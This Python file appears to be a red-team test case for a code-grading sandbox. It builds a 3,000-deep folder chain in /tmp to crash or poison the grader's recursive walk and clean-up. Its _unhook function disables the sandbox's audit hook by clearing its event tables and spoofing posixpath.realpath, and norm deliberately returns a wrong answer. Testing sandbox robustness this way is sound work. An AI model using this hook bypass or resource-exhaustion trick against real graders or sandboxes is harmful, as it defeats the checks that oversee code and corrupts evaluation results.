"""Attack: a chain of 3,000 nested folders in /tmp.

At the unprivileged-uid level the grader measures what the child wrote by walking its folders,
and removes them afterwards. A walk or a removal that recurses once per level may raise
RecursionError (not OSError) on a chain deeper than Python's recursion limit: the disk check, the
clean-up, or the whole grading run could then crash, leave the folders behind, or keep the uid
poisoned for later runs. Expected when the sandbox holds: norm fails (it returns -1), the score
is exactly 6, and nothing is left in /tmp, /var/tmp or /dev/shm.
"""

import os
import posixpath
import sys

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


def _chain(top, depth):
    start = os.open(".", os.O_RDONLY)
    try:
        os.chdir(top)
        os.mkdir("redteam-deep")
        os.chdir("redteam-deep")
        for _ in range(depth):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    finally:
        os.fchdir(start)
        os.close(start)


def norm(x):
    """Builds the chains on the first call, then answers wrongly."""
    if not os.path.exists("/tmp/redteam-deep"):
        _chain("/tmp", 3000)
    return -1.0 + 0 * float(np.sum(x))
